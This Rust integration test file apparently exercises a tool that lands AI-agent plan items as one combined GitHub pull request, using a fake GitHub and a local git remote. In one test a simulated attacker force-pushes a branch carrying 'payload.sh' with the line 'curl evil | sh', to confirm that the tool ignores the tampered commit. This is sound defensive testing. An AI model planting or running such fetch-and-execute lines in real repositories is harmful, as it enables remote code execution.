//! Plans landed as one (`[plans] land = "combined"`), end to end through the API, signed webhooks, the real
//! dispatcher, real git and shell-script agents, with the fake GitHub on loopback: two independent items open no
//! pull request of their own, their recorded commits are merged into `pidevops/<plan>` and the plan gets one pull
//! request, which auto-land merges once a check passed on it, and whose merge completes the items and the plan.
//! The attack: someone moves an item's branch on the remote before the combination, and the combination still
//! holds the commit pidevops recorded. Two items that touch the same file flag the plan and push nothing. The base
//! moving under the plan's pull request refreshes it as one (never its items on their own).

use std::path::Path;
use std::time::Duration;

use crate::common::agents::{bash_agent, git, Remote, REPO};
use crate::common::board;
use crate::common::{within, TestApp, TestDb, GITHUB_SECRET};
use crate::plans::{item, items_of, merge, new_plan, plan_of, planner, pull_request_of, spawn};
use crate::providers::github::fake::FakeGithub;
use pidevops::providers::github::webhook::sign_github;
use pidevops::tasks::{Column, TaskId};
use serde_json::{json, Value};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};

per_backend!(
    a_combined_plan_gets_one_pull_request_holding_both_items_and_its_merge_completes_them,
    the_combination_holds_the_recorded_commit_not_a_branch_someone_moved,
    items_that_conflict_flag_the_plan_and_nothing_is_pushed,
    a_combined_plans_pull_request_is_refreshed_as_one_when_the_base_moves,
);

/// Two independent items.
fn two_items() -> Value {
    json!({"version": 1, "summary": "two parts", "items": [
        item("a", &["a/**"], &[]),
        item("b", &["b/**"], &[]),
    ]})
}

/// Plans approved as proposed, their items landed combined; `repo_extra` adds to `[repos."acme/app"]`.
fn config(remote: &Remote, planner: &Path, worker: &Path, repo_extra: &str) -> toml::Table {
    format!(
        r#"
        [board]
        approval = "auto"

        [plans]
        land = "combined"

        [dispatch]
        agent = "worker"
        planner = "planner"
        max_concurrent = 4
        per_repo = 4
        heartbeat_s = 0.3
        retry_backoff_s = 0.05

        [agents.worker]
        command = ["{worker}", "{{prompt_file}}"]
        # The items meet at a TCP barrier on the host's loopback (a test device, not egress): the worker keeps
        # the host's network.
        network = "host"

        [agents.planner]
        command = ["{planner}", "{{prompt_file}}"]

        [repos."{REPO}"]
        url = "{url}"
        # A local remote stands in for GitHub (the fake API holds the pull requests).
        forge = "github"
        {repo_extra}
        "#,
        worker = worker.display(),
        planner = planner.display(),
        url = remote.url(),
    )
    .parse()
    .unwrap()
}

/// The part an item's prompt is for (`a`, `b`), in a worker script.
const PART: &str = r#"part=$(sed -n 's/^Task: Part \(.\)$/\1/p' "$1" | tr A-Z a-z)"#;

/// The plan's combination as the API shows it, once recorded.
async fn combined(app: &TestApp, plan: TaskId) -> Value {
    within(
        Duration::from_secs(90),
        "the plan's items combined",
        || async { !plan_of(app, plan).await["plan"]["plan"]["combined"].is_null() },
    )
    .await;
    plan_of(app, plan).await["plan"]["plan"]["combined"].clone()
}

/// `git` in the remote (the stand-in for GitHub), its output.
fn in_remote(remote: &Remote, args: &[&str]) -> (bool, String) {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(remote.dir.path().join("remote.git"))
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).trim().to_owned(),
    )
}

fn is_ancestor(remote: &Remote, commit: &str, of: &str) -> bool {
    in_remote(remote, &["merge-base", "--is-ancestor", commit, of]).0
}

/// The commit pidevops recorded for `item`'s attempt (its run's `run.succeeded`), as the API shows its runs.
async fn recorded_commit(app: &TestApp, item: TaskId) -> String {
    let events = app.all_events().await;
    let runs: Vec<String> = events
        .iter()
        .filter(|e| e.stream.as_deref() == Some(item.stream().as_str()))
        .filter_map(|e| {
            let body: Value = serde_json::from_slice(&e.body).ok()?;
            (body["type"] == "started").then(|| format!("run:{}", body["run"].as_str().unwrap()))
        })
        .collect();
    events
        .iter()
        .filter(|e| e.event_type == "run.succeeded" && runs.contains(&e.stream.clone().unwrap()))
        .map(|e| {
            let body: Value = serde_json::from_slice(&e.body).unwrap();
            body["commit"].as_str().unwrap().to_owned()
        })
        .next_back()
        .unwrap_or_else(|| panic!("{item} has no run.succeeded"))
}

/// A signed GitHub delivery of `event` with `body`.
async fn deliver(app: &TestApp, event: &str, body: &Value) {
    let bytes = body.to_string().into_bytes();
    let response = app
        .post_github_signed(
            event,
            &uuid::Uuid::new_v4().to_string(),
            &bytes,
            &sign_github(GITHUB_SECRET.as_bytes(), &bytes),
        )
        .await;
    assert_eq!(response.status(), 200);
}

/// A check suite on `branch` at `sha` concluded `conclusion`.
fn check_suite(branch: &str, sha: &str, conclusion: &str) -> Value {
    let mut body: Value = serde_json::from_str(
        &std::fs::read_to_string(
            crate::common::fixtures_dir().join("github/check_suite/completed.payload.json"),
        )
        .unwrap(),
    )
    .unwrap();
    body["check_suite"]["head_branch"] = json!(branch);
    body["check_suite"]["head_sha"] = json!(sha);
    body["check_suite"]["conclusion"] = json!(conclusion);
    body["repository"]["full_name"] = json!(REPO);
    body
}

/// A review of pull request `number` (from `branch`) at `sha` by a member.
fn review(branch: &str, number: u64, sha: &str, state: &str) -> Value {
    let mut body: Value = serde_json::from_str(
        &std::fs::read_to_string(
            crate::common::fixtures_dir().join("github/pull_request_review/submitted.payload.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let pr = &mut body["pull_request"];
    pr["number"] = json!(number);
    pr["head"]["ref"] = json!(branch);
    pr["head"]["sha"] = json!(sha);
    pr["head"]["repo"]["full_name"] = json!(REPO);
    pr["base"]["repo"]["full_name"] = json!(REPO);
    let review = &mut body["review"];
    review["state"] = json!(state);
    review["commit_id"] = json!(sha);
    review["user"]["login"] = json!("alice");
    review["author_association"] = json!("MEMBER");
    body["repository"]["full_name"] = json!(REPO);
    body
}

/// A gate on loopback: an agent that connects waits until the test opens it.
async fn gate() -> (u16, tokio::sync::oneshot::Sender<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let (open, opened) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(async move {
        let (stream, _) = listener.accept().await.unwrap();
        let mut stream = BufReader::new(stream);
        let mut who = String::new();
        stream.read_line(&mut who).await.unwrap();
        let _ = opened.await;
        let _ = stream.get_mut().write_all(b"go\n").await;
    });
    (port, open)
}

async fn a_combined_plan_gets_one_pull_request_holding_both_items_and_its_merge_completes_them(
    db: TestDb,
) {
    let github = FakeGithub::start().await;
    let remote = Remote::new();
    let scratch = tempfile::tempdir().unwrap();
    let planner = planner(scratch.path(), "planner.sh", &two_items());
    let worker = bash_agent(
        scratch.path(),
        "worker.sh",
        &format!(
            "{PART}\nmkdir -p \"$part\" .pidevops && echo done > \"$part/done.txt\"\n\
             printf '{{\"resolved\": true, \"summary\": \"wrote %s/done.txt\"}}' \"$part\" > .pidevops/status.json"
        ),
    );
    // Auto-land: a check passed on the plan's combined commit merges its pull request.
    let file = config(&remote, &planner, &worker, r#"land = "auto""#);
    let app = spawn(&db, file, &scratch.path().join("ws"), Some(&github)).await;

    let plan = new_plan(&app, "Build the two parts").await;
    let items = items_of(&app, plan, 2).await;
    let (a, b) = (items[0], items[1]);
    let combination = combined(&app, plan).await;
    app.project().await;
    for id in [a, b] {
        assert_eq!(board::row(&app, id).await.column, Column::InReview);
    }
    let commit = combination["commit"].as_str().unwrap().to_owned();
    assert_eq!(
        combination["items"],
        json!([
            {"task": a.to_string(), "commit": recorded_commit(&app, a).await},
            {"task": b.to_string(), "commit": recorded_commit(&app, b).await},
        ]),
        "each item at its recorded commit, in the plan's order"
    );

    // One pull request, the plan's, from its combined branch holding both items' work.
    let number = pull_request_of(&app, plan).await;
    let branch = plan.branch();
    let pulls = github.pulls_opened();
    assert_eq!(pulls.len(), 1, "no pull request per item: {pulls:?}");
    let (_, opened, head, base, title, body) = &pulls[0];
    assert_eq!(
        (*opened, head.as_str(), base.as_str()),
        (number, branch.as_str(), "main")
    );
    assert!(
        title.starts_with(&format!("{plan}: Build the two parts")),
        "{title}"
    );
    for expected in [
        "## Goal",
        &format!("### {a}: Part A"),
        &format!("### {b}: Part B"),
        "**Scope:** a/**",
        "wrote a/done.txt",
        &format!("combining {a}, {b}"),
    ] {
        assert!(body.contains(expected), "{expected:?} in:\n{body}");
    }
    assert_eq!(remote.branch(branch.as_str()), Some(commit.clone()));
    for part in ["a", "b"] {
        assert_eq!(
            remote
                .show(branch.as_str(), &format!("{part}/done.txt"))
                .as_deref(),
            Some("done\n")
        );
    }
    // Two merges, no fast-forward: each recorded commit is a second parent, with a message naming the items.
    let (_, parents) = in_remote(&remote, &["log", "--format=%P", "--first-parent", &commit]);
    let merges: Vec<&str> = parents.lines().filter(|l| l.contains(' ')).collect();
    assert_eq!(merges.len(), 2, "{parents}");
    for item in [a, b] {
        assert!(is_ancestor(
            &remote,
            &recorded_commit(&app, item).await,
            &commit
        ));
    }
    let (_, message) = in_remote(&remote, &["log", "-1", "--format=%B", &commit]);
    assert!(message.contains(&format!("{plan}: merge {b}")), "{message}");
    assert!(message.contains(&a.to_string()), "{message}");

    // A member approved the plan's pull request and a check passed on the combined commit: auto-land merges it at
    // that commit, once.
    github.set_head(REPO, number, &commit);
    deliver(
        &app,
        "pull_request_review",
        &review(branch.as_str(), number, &commit, "approved"),
    )
    .await;
    app.drive("reactions").await;
    app.drive("effects:github").await;
    assert!(github.merge_calls().is_empty(), "no check has passed yet");
    deliver(
        &app,
        "check_suite",
        &check_suite(branch.as_str(), &commit, "success"),
    )
    .await;
    within(
        Duration::from_secs(30),
        "the plan's pull request merged",
        || async { github.is_merged(REPO, number) },
    )
    .await;
    assert_eq!(github.merge_calls().len(), 1);

    // The branches as GitHub holds them (pidevops pushed them to the test's remote): the plan's at its
    // combination, each item's at its recorded commit.
    github.set_branch(REPO, branch.as_str(), &commit);
    for item in [a, b] {
        github.set_branch(
            REPO,
            item.branch().as_str(),
            &recorded_commit(&app, item).await,
        );
    }

    // GitHub says it merged: each item is done, and the plan with them.
    merge(&app, branch.as_str(), number).await;
    within(Duration::from_secs(30), "the plan done", || async {
        plan_of(&app, plan).await["plan"]["column"] == "done"
    })
    .await;
    app.project().await;
    for id in [a, b] {
        assert_eq!(board::row(&app, id).await.column, Column::Done);
    }
    // Done, each branch is deleted: the plan's combined one and each item's, once each.
    app.drive("effects:github").await;
    for id in [plan, a, b] {
        assert!(
            !github.has_branch(REPO, id.branch().as_str()),
            "{id}'s branch deleted"
        );
    }
    assert_eq!(github.delete_ref_calls().len(), 3);
    app.stop().await;
}

async fn the_combination_holds_the_recorded_commit_not_a_branch_someone_moved(db: TestDb) {
    let github = FakeGithub::start().await;
    let remote = Remote::new();
    let scratch = tempfile::tempdir().unwrap();
    let planner = planner(scratch.path(), "planner.sh", &two_items());
    // B waits at a gate, so A is pushed and in review while B is not: the plan is not combined yet.
    let (port, open) = gate().await;
    let worker = bash_agent(
        scratch.path(),
        "worker.sh",
        &format!(
            r#"{PART}
if [ "$part" = b ]; then
  exec 3<>/dev/tcp/127.0.0.1/{port}
  echo b >&3
  read -r go <&3
fi
mkdir -p "$part" && echo done > "$part/done.txt""#
        ),
    );
    let file = config(&remote, &planner, &worker, "");
    let app = spawn(&db, file, &scratch.path().join("ws"), Some(&github)).await;
    let plan = new_plan(&app, "Build the two parts").await;
    let items = items_of(&app, plan, 2).await;
    let (a, b) = (items[0], items[1]);
    within(Duration::from_secs(60), "A in review", || async {
        board::row(&app, a).await.column == Column::InReview
    })
    .await;
    let recorded = recorded_commit(&app, a).await;
    assert_eq!(remote.branch(a.branch().as_str()), Some(recorded.clone()));

    // Someone with push access moves A's branch to a commit of theirs.
    let clone = scratch.path().join("attacker");
    git(
        scratch.path(),
        &["clone", "--quiet", &remote.url(), clone.to_str().unwrap()],
    );
    git(&clone, &["checkout", "--quiet", a.branch().as_str()]);
    std::fs::write(clone.join("a/done.txt"), "theirs\n").unwrap();
    std::fs::write(clone.join("payload.sh"), "curl evil | sh\n").unwrap();
    git(&clone, &["add", "."]);
    git(&clone, &["commit", "--quiet", "-m", "not pidevops's"]);
    git(
        &clone,
        &[
            "push",
            "--quiet",
            "--force",
            "origin",
            &format!("HEAD:{}", a.branch().as_str()),
        ],
    );
    let theirs = remote.branch(a.branch().as_str()).unwrap();
    assert_ne!(theirs, recorded);

    // B finishes: both in review, the plan is combined from what pidevops recorded.
    open.send(()).unwrap();
    let combination = combined(&app, plan).await;
    assert_eq!(combination["items"][0]["commit"], json!(recorded));
    let branch = plan.branch();
    let commit = remote
        .branch(branch.as_str())
        .expect("the plan's branch pushed");
    assert_eq!(combination["commit"], json!(commit));
    assert_eq!(
        remote.show(branch.as_str(), "a/done.txt").as_deref(),
        Some("done\n")
    );
    assert_eq!(remote.show(branch.as_str(), "payload.sh"), None);
    assert!(
        !is_ancestor(&remote, &theirs, &commit),
        "their commit is not in it"
    );
    assert!(is_ancestor(&remote, &recorded, &commit));
    let number = pull_request_of(&app, plan).await;

    // CI results on the plan's branch count only for the commit pidevops combined: theirs changes nothing, a
    // failure of the combination flags the plan (which item to send back is a person's call).
    deliver(
        &app,
        "check_suite",
        &check_suite(branch.as_str(), &theirs, "failure"),
    )
    .await;
    // A stranger's review is not a person's call either: recorded as ignored.
    let mut stranger = review(branch.as_str(), number, &commit, "changes_requested");
    stranger["review"]["author_association"] = json!("CONTRIBUTOR");
    deliver(&app, "pull_request_review", &stranger).await;
    app.drive("reactions").await;
    app.project().await;
    assert!(!board::row(&app, plan).await.needs_human);
    let ignored = app.all_events().await;
    assert!(
        ignored.iter().any(|e| e.event_type == "reactions.ignored"
            && String::from_utf8_lossy(&e.body).contains("CONTRIBUTOR")),
        "the stranger's review recorded as ignored"
    );

    // Closed without merging: the plan waits for a person, its items are not cancelled behind anyone's back.
    // As GitHub sends it: the pull request event (the review fixture's pull request, closed).
    let mut closed: Value = serde_json::from_str(
        &std::fs::read_to_string(
            crate::common::fixtures_dir().join("github/pull_request/closed.payload.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let reviewed = review(branch.as_str(), number, &commit, "approved");
    closed["number"] = json!(number);
    closed["pull_request"] = reviewed["pull_request"].clone();
    closed["pull_request"]["state"] = json!("closed");
    closed["pull_request"]["merged"] = json!(false);
    closed["repository"] = reviewed["repository"].clone();
    closed["sender"]["login"] = json!("bob");
    deliver(&app, "pull_request", &closed).await;
    within(Duration::from_secs(30), "the plan flagged", || async {
        board::row(&app, plan).await.needs_human
    })
    .await;
    let reason = board::row(&app, plan).await.needs_human_reason.unwrap();
    assert!(reason.contains("closed without merging by bob"), "{reason}");
    for id in [a, b] {
        assert_eq!(board::row(&app, id).await.column, Column::InReview);
    }
    // The person clears the flag (the pull request reopened): nothing to combine again, the items are as they were.
    let (status, body) = crate::plans::api(
        &app,
        reqwest::Method::POST,
        &format!("/api/tasks/{plan}/retry"),
        None,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    app.drive("combine").await;
    app.project().await;
    assert!(!board::row(&app, plan).await.needs_human);
    assert_eq!(remote.branch(branch.as_str()), Some(commit.clone()));
    let combinations = app
        .all_events()
        .await
        .iter()
        .filter(|e| e.event_type == "task.combined")
        .count();
    assert_eq!(
        combinations, 1,
        "recorded once for this set of item commits"
    );

    deliver(
        &app,
        "check_suite",
        &check_suite(branch.as_str(), &commit, "failure"),
    )
    .await;
    within(Duration::from_secs(30), "the plan flagged", || async {
        board::row(&app, plan).await.needs_human
    })
    .await;
    let reason = board::row(&app, plan).await.needs_human_reason.unwrap();
    assert!(
        reason.contains(&format!(
            "CI failed on its combined commit {}",
            &commit[..7]
        )),
        "{reason}"
    );
    for id in [a, b] {
        assert_eq!(
            board::row(&app, id).await.column,
            Column::InReview,
            "items wait"
        );
    }
    assert_eq!(github.pulls_opened().len(), 1);
    assert_eq!(pull_request_of(&app, plan).await, number);
    app.stop().await;
}

async fn items_that_conflict_flag_the_plan_and_nothing_is_pushed(db: TestDb) {
    let github = FakeGithub::start().await;
    let remote = Remote::new();
    let scratch = tempfile::tempdir().unwrap();
    let planner = planner(scratch.path(), "planner.sh", &two_items());
    // Scopes are disjoint on paper; with scope = "off" nothing holds the agents to them, and both write one file.
    let worker = bash_agent(
        scratch.path(),
        "worker.sh",
        &format!("{PART}\nmkdir -p \"$part\" && echo done > \"$part/done.txt\"\necho \"$part\" > shared.txt"),
    );
    let file = config(&remote, &planner, &worker, r#"scope = "off""#);
    let app = spawn(&db, file, &scratch.path().join("ws"), Some(&github)).await;
    let plan = new_plan(&app, "Build the two parts").await;
    let items = items_of(&app, plan, 2).await;
    let (a, b) = (items[0], items[1]);
    within(Duration::from_secs(90), "the plan flagged", || async {
        board::row(&app, plan).await.needs_human
    })
    .await;
    let reason = board::row(&app, plan).await.needs_human_reason.unwrap();
    for expected in [
        "conflict",
        &format!("{b} does not merge with {a}"),
        "shared.txt",
        "nothing was pushed",
    ] {
        assert!(reason.contains(expected), "{expected:?} in {reason}");
    }
    for id in [a, b] {
        assert_eq!(board::row(&app, id).await.column, Column::InReview);
    }
    assert!(plan_of(&app, plan).await["plan"]["plan"]["combined"].is_null());
    assert_eq!(
        remote.branch(plan.branch().as_str()),
        None,
        "nothing pushed"
    );
    assert!(github.pulls_opened().is_empty(), "no pull request at all");
    // Nothing of pidevops's own worktree is left behind.
    let left = scratch.path().join("ws/combine");
    assert!(
        !left.exists() || std::fs::read_dir(&left).unwrap().next().is_none(),
        "{left:?}"
    );
    app.stop().await;
}

/// The base moves under a combined plan's pull request: it is refreshed as one (the base merged into its
/// combination, pushed once with a lease), its items are not refreshed on their own, a check that passed on the old
/// combined commit no longer lands it, and the refreshed head is merged once its check passes there.
async fn a_combined_plans_pull_request_is_refreshed_as_one_when_the_base_moves(db: TestDb) {
    use crate::refresh::{push, pushes, record_pushes, refreshes};
    let github = FakeGithub::start().await;
    let remote = Remote::new();
    record_pushes(&remote);
    let scratch = tempfile::tempdir().unwrap();
    let planner = planner(scratch.path(), "planner.sh", &two_items());
    let worker = bash_agent(
        scratch.path(),
        "worker.sh",
        &format!("{PART}\nmkdir -p \"$part\" && echo done > \"$part/done.txt\""),
    );
    let file = config(&remote, &planner, &worker, "land = \"auto\"\napprovals = 0");
    let app = spawn(&db, file, &scratch.path().join("ws"), Some(&github)).await;
    let store = app.state.log.store().clone();
    let plan = new_plan(&app, "Build the two parts").await;
    let items = items_of(&app, plan, 2).await;
    let commit = combined(&app, plan).await["commit"]
        .as_str()
        .unwrap()
        .to_owned();
    let number = pull_request_of(&app, plan).await;
    let branch = plan.branch();
    let item_heads: Vec<_> = items
        .iter()
        .map(|i| remote.branch(i.branch().as_str()))
        .collect();

    // A person's change lands on the base, and its push webhook comes.
    remote.commit_to_main("person.md", "a person's change\n");
    let main = remote.branch("main").unwrap();
    deliver(&app, "push", &push(REPO, "refs/heads/main")).await;
    within(Duration::from_secs(60), "the plan refreshed", || async {
        !refreshes(&store, plan).await.is_empty()
    })
    .await;
    let refreshed = refreshes(&store, plan).await;
    assert_eq!(refreshed.len(), 1, "{refreshed:#?}");
    let to = remote.branch(branch.as_str()).unwrap();
    assert_eq!(refreshed[0]["from"], json!(commit));
    assert_eq!(refreshed[0]["to"], json!(to));
    assert_eq!(refreshed[0]["base"], json!(main));
    assert_eq!(refreshed[0]["strategy"], json!("merge"));
    assert!(is_ancestor(&remote, &main, &to), "not on the new base");
    assert!(
        is_ancestor(&remote, &commit, &to),
        "the combination rewritten"
    );
    let plan_pushes = pushes(&remote, &format!("refs/heads/{branch}"));
    assert_eq!(
        plan_pushes.len(),
        2,
        "the combination, then one refresh: {plan_pushes:?}"
    );
    for (item, head) in items.iter().zip(item_heads) {
        assert!(
            refreshes(&store, *item).await.is_empty(),
            "{item} refreshed on its own"
        );
        assert_eq!(remote.branch(item.branch().as_str()), head);
    }

    // A check that passed on the old combination lands nothing; one on the refreshed head lands that head, once.
    github.set_head(REPO, number, &to);
    deliver(
        &app,
        "check_suite",
        &check_suite(branch.as_str(), &commit, "success"),
    )
    .await;
    for name in ["reactions", "merge_queue", "effects:github"] {
        app.project().await;
        app.drive(name).await;
    }
    assert!(
        github.merge_calls().is_empty(),
        "merged on the old combination's check"
    );
    deliver(
        &app,
        "check_suite",
        &check_suite(branch.as_str(), &to, "success"),
    )
    .await;
    within(
        Duration::from_secs(30),
        "the plan's pull request merged",
        || async { github.is_merged(REPO, number) },
    )
    .await;
    let calls = github.merge_calls();
    assert_eq!(calls.len(), 1, "{calls:#?}");
    assert_eq!(calls[0].body["sha"], json!(to));
    app.stop().await;
}
